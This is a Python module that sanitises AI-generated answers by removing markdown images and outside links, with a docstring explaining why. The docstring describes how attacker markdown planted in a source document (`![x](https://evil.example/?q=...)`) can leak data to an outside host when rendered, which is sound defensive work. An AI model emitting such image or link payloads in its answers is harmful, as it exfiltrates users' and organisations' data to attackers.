"""No answer shows a link or image to an outside host.

A document can carry an attacker's markdown (`![x](https://evil.example/?q=...)`): an API
client or a chat front end that renders markdown would fetch the image or offer the link, and
whatever the URL carries leaves the organisation. Answers are therefore cleaned after the
check, before anyone sees them: markdown images are dropped, markdown links keep their text,
and a bare URL to a host outside `answer_link_hosts` is replaced by its host name, marked.
"""
from __future__ import annotations

import re
from urllib.parse import urlsplit

TARGET = r"\(\s*<?((?:[^()\s<>]|\([^()\s]*\)){1,2000})>?(?:\s+\"[^\"]*\")?\s*\)"
IMAGE = re.compile(r"!\[([^\]\n]{0,200})\]" + TARGET)
LINK = re.compile(r"(?<!!)\[([^\]\n]{1,200})\]" + TARGET)
URL = re.compile(r"\b(?:https?|ftp)://[^\s<>\"'()\[\]]+|\bwww\.[^\s<>\"'()\[\]]+",
                 re.IGNORECASE)
LOCAL = {"localhost", "127.0.0.1", "::1"}


def _host(url: str) -> str:
    if url.lower().startswith("www."):
        url = "http://" + url
    try:
        return (urlsplit(url).hostname or "").lower()
    except ValueError:
        return ""


def allowed(url: str, hosts: frozenset[str]) -> bool:
    """A relative link (the appliance's own pages) or a host on the list (or below it)."""
    if not re.match(r"(?i)^(?:[a-z][a-z0-9+.-]*:|//|www\.)", url):
        return True
    host = _host(url)
    return bool(host) and (host in LOCAL or any(host == h or host.endswith("." + h)
                                                for h in hosts))


def clean_links(text: str, hosts: frozenset[str] = frozenset()) -> tuple[str, int]:
    """(text without outside links and images, how many were taken out)."""
    removed = 0

    def image(match: re.Match) -> str:
        nonlocal removed
        removed += 1  # an image is fetched as soon as it renders: none is ever shown
        return ""

    def link(match: re.Match) -> str:
        nonlocal removed
        if allowed(match.group(2), hosts):
            return match.group(0)
        removed += 1
        return match.group(1)

    def bare(match: re.Match) -> str:
        nonlocal removed
        url = match.group(0).rstrip(".,;:!?")
        if allowed(url, hosts):
            return match.group(0)
        removed += 1
        return f"{_host(url) or 'a link'} (link removed){match.group(0)[len(url):]}"

    text = IMAGE.sub(image, text)
    text = LINK.sub(link, text)
    text = URL.sub(bare, text)
    return re.sub(r"[ \t]{2,}", " ", text).strip(), removed
